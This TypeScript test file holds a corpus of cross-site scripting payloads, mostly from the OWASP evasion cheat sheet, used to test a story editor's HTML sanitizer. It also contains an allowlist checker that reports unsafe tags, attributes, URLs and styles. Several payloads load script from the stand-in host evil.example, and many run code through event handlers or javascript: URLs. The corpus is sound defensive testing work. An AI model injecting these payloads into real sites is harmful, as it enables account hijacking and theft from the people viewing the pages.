import sanitizeHtml from 'sanitize-html';

/**
 * Cross-site scripting payloads for tests of anything that stores user text shown as HTML or
 * inside it (a story's body, title, tags, pseudonym). Mostly the OWASP XSS filter evasion cheat
 * sheet, plus mutation XSS (markup that changes meaning when a browser parses it again), URL
 * scheme obfuscation, CSS and DOM clobbering. Test code only; nothing in the app imports it.
 */
export const xssCorpus: readonly string[] = [
  // Script tags, every casing and shape.
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src="https://evil.example/x.js"></script>',
  '<SCRIPT SRC=//evil.example/.j>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p>hola</p><script type="module">import("//evil.example")</script>',
  '<script\ttype="text/javascript">alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  // Images and their handlers.
  '<img src=x onerror=alert(1)>',
  '<p>texto <img src="x" onerror="alert(1)"/> más</p>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img src=`x` onerror=alert(1)>',
  '\'"><img src=x onerror=alert(1)>',
  // SVG and MathML.
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  "<svg><style>{font-family:'<img/src=x onerror=alert(1)>'}</style></svg>",
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi xlink:href="data:x,<script>alert(4)</script>">x</mi></math>',
  // Frames, objects, forms, documents.
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<form action="javascript:alert(1)"><input type="submit"></form>',
  '<form><button formaction="javascript:alert(1)">X</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0; url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<base href="javascript:alert(1)//">',
  '<p>a</p><base href="https://evil.example/">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  "<style>@import 'javascript:alert(1)';</style>",
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<x onclick=alert(1)>click</x>',
  // Link schemes, obfuscated.
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="java&#x0D;script:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="&#14;  javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="javas\u00adcript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VBScript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<a href="javascript:alert(1)"><span>x</span></a>',
  '<p><a href="https://ok.example"><a href="javascript:alert(1)">anidado</a></a></p>',
  // Event handlers on allowed tags.
  '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(1)">x</a>',
  '<a href="https://ok.example"title="x"onmouseover=alert(1)>x</a>',
  '<a href="https://ok.example" onfocus="alert(1)" autofocus tabindex=1>x</a>',
  '<p onclick="alert(1)">x</p>',
  '<p/onclick="alert(1)">x</p>',
  '<strong onmouseover=alert(1)>x</strong>',
  '<span onpointerenter="alert(1)" style="color:red">x</span>',
  '<h1 ONLOAD=alert(1)>x</h1>',
  '<blockquote/onmouseover=alert(1)>x</blockquote>',
  '<code onclick="alert(1)">x</code>',
  '<pre onclick="alert(1)">x</pre>',
  '<div class="ql-code-block" onclick="alert(1)">x</div>',
  '<em onclick\f=alert(1)>x</em>',
  // CSS.
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<span style="color: expression(alert(1))">x</span>',
  '<span style="width: expression(alert(1)); color: red">x</span>',
  '<p style="behavior: url(xss.htc)">x</p>',
  '<p style="-moz-binding: url(https://evil.example/xss.xml#xss)">x</p>',
  '<span style="color: red; background-image: url(\'javascript:alert(1)\')">x</span>',
  '<span style="color:&#x72;ed;background:url(&#x6A;avascript:alert(1))">x</span>',
  '<span style="color: \\65 xpression(alert(1))">x</span>',
  '<span style="color: red/* */;position:fixed;top:0;left:0;width:100%;height:100%">x</span>',
  '<span style="background-color: url(data:image/svg+xml;base64,PHN2Zy8+)">x</span>',
  '<span class="ql-font-serif x-evil" style="font-family: expression(alert(1))">x</span>',
  // Parser confusion, comments, CDATA, raw text elements (mutation XSS).
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><script>alert(1)</script></template>',
  '<div><p><span><strong>texto<script>alert(1)',
  '<p =onclick=alert(1)>x</p>',
  // DOM clobbering: names and ids the page's scripts might read as globals.
  '<a id="defaultView" name="cookie" href="https://ok.example">x</a>',
  '<p class="ql-align-center ql-editor" id="x" data-x="1">x</p>',
  // Deep nesting.
  `${'<b>'.repeat(3000)}profundo`,
  // Plain text that looks like code (harmless as text; must stay text).
  'javascript:alert(1)',
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
];

const allowedTags = new Set([
  'p',
  'br',
  'span',
  'h1',
  'h2',
  'h3',
  'strong',
  'b',
  'em',
  'i',
  'u',
  's',
  'blockquote',
  'a',
  'code',
  'pre',
  'div',
]);
const allowedAttributes: Record<string, Set<string>> = {
  '*': new Set(['class', 'style']),
  a: new Set(['href', 'rel', 'target']),
  div: new Set(['spellcheck', 'data-language']),
  pre: new Set(['data-language']),
};
const allowedClasses = new Set([
  'ql-font-serif',
  'ql-font-monospace',
  'ql-align-center',
  'ql-align-right',
  'ql-align-justify',
  'ql-code-block-container',
  'ql-code-block',
]);
const allowedStyleProperties = new Set(['color', 'background-color', 'text-align', 'font-family']);
const forbiddenTagText = /<\/?\s*(?:script|iframe|object|embed|svg|math|style|form|base|meta|link|img)\b/i;

/**
 * What in `html` could run script or step outside the story editor's formats, as a list of
 * findings (empty: clean). The HTML is parsed (htmlparser2, through sanitize-html with every
 * tag and attribute let through and reported), not matched with regexes, and every tag,
 * attribute, class, style declaration and URL is checked against the allowlist independently of
 * the cleaner's own code.
 */
export function xssFindings(html: string): string[] {
  const findings: string[] = [];
  if (/<script/i.test(html)) {
    findings.push('<script in the text');
  }
  if (forbiddenTagText.test(html)) {
    findings.push(`forbidden tag in the text: ${forbiddenTagText.exec(html)?.[0]}`);
  }
  if (/<!/.test(html)) {
    findings.push('comment, CDATA or doctype');
  }
  sanitizeHtml(html, {
    allowedTags: false,
    allowedAttributes: false,
    allowVulnerableTags: true,
    nonTextTags: [],
    parseStyleAttributes: false,
    onOpenTag: (tag, attribs) => {
      if (!allowedTags.has(tag)) {
        findings.push(`tag <${tag}>`);
      }
      for (const [name, value] of Object.entries(attribs)) {
        if (/^on/i.test(name)) {
          findings.push(`event handler ${name} on <${tag}>`);
        }
        if (!allowedAttributes['*']!.has(name) && !allowedAttributes[tag]?.has(name)) {
          findings.push(`attribute ${name} on <${tag}>`);
        }
        // As a browser reads a URL: controls and spaces around it, tabs and newlines inside ignored.
        // eslint-disable-next-line no-control-regex
        const compact = value.replace(/[\u0000-\u0020\u007f-\u009f\u00ad]/g, '').toLowerCase();
        if (/^(?:javascript|vbscript|data):/.test(compact) || /(?:javascript|vbscript):/.test(compact)) {
          findings.push(`script URL in ${name} on <${tag}>: ${value}`);
        }
        if (name === 'href' && !/^(?:https?:\/\/|mailto:)/i.test(value)) {
          findings.push(`href not http(s) or mailto: ${value}`);
        }
        if (name === 'class') {
          for (const className of value.split(/\s+/).filter(Boolean)) {
            if (!allowedClasses.has(className)) {
              findings.push(`class ${className}`);
            }
          }
        }
        if (name === 'style') {
          for (const declaration of value.split(';').filter((d) => d.trim() !== '')) {
            const property = declaration.split(':')[0]!.trim().toLowerCase();
            const propertyValue = declaration.slice(declaration.indexOf(':') + 1).trim();
            if (!allowedStyleProperties.has(property)) {
              findings.push(`style property ${property}`);
            }
            if (/[\\/]|url\s*\(|expression|(?<!rgba?)\(/i.test(propertyValue)) {
              findings.push(`style value ${propertyValue}`);
            }
          }
        }
      }
      if (tag === 'a' && (attribs.rel !== 'noopener noreferrer nofollow' || attribs.target !== '_blank')) {
        findings.push(`link without the forced rel and target: ${JSON.stringify(attribs)}`);
      }
    },
  });
  return findings;
}
